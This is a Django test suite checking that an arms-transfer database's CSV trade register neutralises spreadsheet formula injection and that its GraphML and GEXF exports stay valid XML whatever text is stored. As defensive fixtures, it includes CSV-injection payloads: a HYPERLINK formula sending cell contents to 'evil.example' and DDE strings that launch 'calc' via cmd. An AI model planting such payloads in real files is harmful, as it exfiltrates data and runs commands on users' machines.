"""Exports are safe to open: the trade register neutralises what a
spreadsheet would run as a formula, and the GraphML and GEXF files are
well-formed XML whatever text is stored."""

import csv
import datetime
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.db import transaction
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from actors.factories import ActorFactory
from actors.models import Actor
from common.dates import DatePrecision
from sources.factories import SourceFactory
from sources.models import Source
from tests.helpers import API
from transfers.choices import Stage, TransferType
from transfers.exports import register as register_export
from transfers.factories import CitationFactory, SystemFactory, TransferFactory
from transfers.models import System, Transfer, TransferIntermediary

pytestmark = pytest.mark.django_db

#: The exports count by default only transfers that reached agreement; these
#: tests are about the formats, so they take every stage.
ALL = {"all_stages": "true"}
CSV_URL = f"{API}/exports/trade-register.csv"

#: What OWASP's CSV-injection page lists as a formula's first character, and NUL (ASVS 1.2.10).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def register(transfers=None) -> str:
    transfers = Transfer.objects.all() if transfers is None else transfers
    return "".join(register_export.write_csv(register_export.trade_register(transfers)))


def test_formula_cells_get_a_leading_single_quote(api_client):
    supplier = ActorFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    recipient = ActorFactory(name="+1+cmd|' /C calc'!A0")
    system = SystemFactory(designation="@SUM(1+1)*cmd|' /C calc'!A0", description="-2+3+cmd")
    transfer = TransferFactory(supplier=supplier, recipient=recipient, system=system, slug="-1-1")
    TransferIntermediary.objects.create(
        transfer=transfer, actor=ActorFactory(name="\t=1+1"), position=1
    )
    CitationFactory(transfer=transfer, source=SourceFactory(title="\r=1+1", url="=1+1"))

    response = api_client.get(CSV_URL, ALL)
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["Supplier"] == "'" + supplier.name
    assert row["Recipient"] == "'" + recipient.name
    assert row["Designation"] == "'" + system.designation
    assert row["Description"] == "'-2+3+cmd"
    assert row["Deal id"] == "'-1-1"
    assert row["Intermediaries"] == "'\t=1+1"
    assert row["Source titles"] == "'\r=1+1"
    assert row["Source URLs"] == "'=1+1"


def test_cells_that_only_contain_a_trigger_later_are_left_alone():
    TransferFactory(
        supplier=ActorFactory(name="Russia"),
        system=SystemFactory(designation="S-300 = SA-10", description="a+b, c-d @ e"),
        start_date=datetime.date(2019, 3, 4),
        start_date_precision=DatePrecision.DAY,
        quantity=0,
    )
    [row] = list(csv.DictReader(io.StringIO(register())))
    assert (row["Supplier"], row["Designation"], row["Description"]) == (
        "Russia",
        "S-300 = SA-10",
        "a+b, c-d @ e",
    )
    assert (row["Start date"], row["Numbers ordered"]) == ("2019-03-04", "0")


def test_every_cell_is_quoted_so_embedded_separators_start_no_new_cell():
    """A spreadsheet set to split on ';' (or tab) must not see `=…` as a
    cell of its own: every cell is in double quotes, as OWASP advises."""
    TransferFactory(system=SystemFactory(designation='x;=HYPERLINK("a")\t=1+1'))
    text = register()
    assert '"x;=HYPERLINK(""a"")\t=1+1"' in text
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"'), line


def test_cells_we_write_from_our_own_vocabularies_never_start_a_formula():
    """The fast writer neutralises only the cells that hold stored text; the
    others come from these lists (and digits), so none can start a formula."""
    from transfers.choices import SystemCategory

    words = [
        *register_export.TRADE_REGISTER_COLUMNS,
        *register_export.CATEGORY_LABELS.values(),
        *register_export.SIPRI_CONDITION_TEXT.values(),
        *Stage.values,
        *TransferType.values,
        *DatePrecision.values,
        *SystemCategory.values,
        "yes",
        "no",
    ]
    assert [word for word in words if word.startswith(TRIGGERS)] == []


# --- GraphML and GEXF are well-formed whatever is stored ------------------------------

NETWORK_URL = f"{API}/network/"


def network(api_client, fmt: str) -> bytes:
    response = api_client.get(NETWORK_URL, {**ALL, "format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def read_graph(fmt: str, data: bytes):
    nx = pytest.importorskip("networkx")
    ET.fromstring(data)  # well-formed XML, whatever networkx makes of it
    return (nx.read_graphml if fmt == "graphml" else nx.read_gexf)(io.BytesIO(data))


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_a_stored_control_character_no_longer_breaks_the_graph_files(api_client, fmt):
    """The issue's case: a name with control characters, stored before
    validation refused them, made every GraphML and GEXF export unreadable."""
    transfer = TransferFactory(system=SystemFactory(designation="Tor\x0bM1\r"))
    Actor.objects.filter(pk=transfer.supplier_id).update(name="Bad\x01\x0b\x1fName")
    graph = read_graph(fmt, network(api_client, fmt))
    node = graph.nodes[f"actor-{transfer.supplier_id}"]
    assert (node["label"] if fmt == "gexf" else node["name"]) == "Bad\ufffd\ufffd\ufffdName"
    [(_source, _target, edge)] = graph.edges(data=True)
    assert edge["system_designation"] == "Tor\ufffdM1\r"


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_the_command_writes_the_same_safe_files(fmt, tmp_path):
    from django.core.management import call_command

    transfer = TransferFactory()
    Actor.objects.filter(pk=transfer.recipient_id).update(name="\x1b[31mred\x08")
    target = tmp_path / f"g.{fmt}"
    call_command(
        "export_transfers",
        "--format",
        fmt,
        "--output",
        str(target),
        "--no-progress",
        "--all-stages",
        "true",
    )
    graph = read_graph(fmt, target.read_bytes())
    node = graph.nodes[f"actor-{transfer.recipient_id}"]
    assert (node["label"] if fmt == "gexf" else node["name"]) == "\ufffd[31mred\ufffd"


# --- random Unicode through every export, each parsed back -----------------------------


def stored_text(max_size=30):
    """Any text a database here can store: no lone surrogates (UTF-8 cannot
    hold one; neither backend stores it), and no NUL on PostgreSQL (its text
    types refuse it). Control characters, C1, non-characters, astral
    characters, formula triggers and separators all come up."""
    from django.db import connection

    return st.text(
        st.characters(
            exclude_categories=["Cs"],
            exclude_characters="\x00" if connection.vendor == "postgresql" else "",
        ),
        min_size=1,
        max_size=max_size,
    )


def csv_cell(value: str) -> str:
    """What the trade register writes for `value`: the neutralising quote in front
    of a formula trigger."""
    return "'" + value if value.startswith(TRIGGERS) else value


def xml_value(value: str) -> str:
    """What the graph files carry for `value`: what XML 1.0 cannot hold becomes U+FFFD."""
    return "".join(
        c
        if c in "\t\n\r"
        or "\x20" <= c <= "\ud7ff"
        or "\ue000" <= c <= "\ufffd"
        or c >= "\U00010000"
        else "\ufffd"
        for c in value
    )


@settings(
    max_examples=25,
    deadline=None,
    derandomize=True,  # the same examples on every run, so a failure reproduces
    # No shrinking: an example takes a second or so here, and shrinking one
    # ran past five minutes; the failing example is printed as it is.
    phases=[Phase.explicit, Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    names=st.lists(stored_text(), min_size=3, max_size=3),
    designation=stored_text(),
    description=stored_text(60),
    title=stored_text(60),
    notes=stored_text(60),
)
def test_random_text_comes_back_from_every_export(
    api_client, names, designation, description, title, notes
):
    """Rows written directly, as old rows or raw SQL could hold them (no
    validation), then the CSV, JSON Lines, GraphML and GEXF exports."""
    with transaction.atomic():
        supplier, recipient, stop = (ActorFactory() for _ in names)
        system = SystemFactory()
        transfer = TransferFactory(supplier=supplier, recipient=recipient, system=system)
        TransferIntermediary.objects.create(transfer=transfer, actor=stop, position=1)
        CitationFactory(transfer=transfer, source=SourceFactory())
        for actor, name in zip((supplier, recipient, stop), names, strict=True):
            Actor.objects.filter(pk=actor.pk).update(name=name)
        System.objects.filter(pk=system.pk).update(designation=designation, description=description)
        Source.objects.update(title=title)
        Transfer.objects.filter(pk=transfer.pk).update(notes=notes)

        response = api_client.get(CSV_URL, ALL)
        text = b"".join(response.streaming_content).decode()
        [row] = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [row[c] for c in ("Supplier", "Recipient", "Intermediaries")] == [
            csv_cell(name) for name in names
        ]
        assert (row["Designation"], row["Description"], row["Source titles"]) == (
            csv_cell(designation),
            csv_cell(description),
            csv_cell(title),
        )

        response = api_client.get(f"{API}/exports/transfers.jsonl")
        [line] = b"".join(response.streaming_content).decode().split("\n")[:-1]
        record = json.loads(line)
        assert [record["supplier"]["name"], record["recipient"]["name"]] == names[:2]
        assert record["intermediaries"][0]["name"] == names[2]
        assert record["system"]["name"] == designation
        assert record["citations"][0]["source"]["title"] == title
        assert record["notes"] == notes

        for fmt in ("graphml", "gexf"):
            graph = read_graph(fmt, network(api_client, fmt))
            label = "label" if fmt == "gexf" else "name"
            assert [graph.nodes[f"actor-{a.pk}"][label] for a in (supplier, recipient)] == [
                xml_value(name) for name in names[:2]
            ]
            [edge] = [data for _s, _t, data in graph.edges(data=True) if not data["via"]]
            assert edge["system_designation"] == xml_value(designation)
            legs = [data for _s, _t, data in graph.edges(data=True) if data["via"]]
            assert len(legs) == 2  # supplier → intermediary → recipient
        transaction.set_rollback(True)
